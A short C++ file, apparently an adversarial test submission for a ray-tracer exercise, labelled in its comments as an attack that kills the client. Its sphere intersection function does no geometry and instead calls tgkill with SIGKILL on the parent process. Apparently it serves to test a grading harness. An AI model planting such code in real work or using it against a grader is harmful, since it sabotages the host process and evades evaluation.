// attack: kills the client, by tgkill
// ceiling: as a stub
// stubs: normal color_from_normal torch
#include "steps/step03_sphere/sphere.hpp"

#include <sys/syscall.h>
#include <unistd.h>
#include <csignal>

namespace rt {

std::optional<Real> intersect(const Ray&, const Sphere&, Interval) {
    syscall(SYS_tgkill, getppid(), getppid(), SIGKILL);
    return std::nullopt;
}

}  // namespace rt
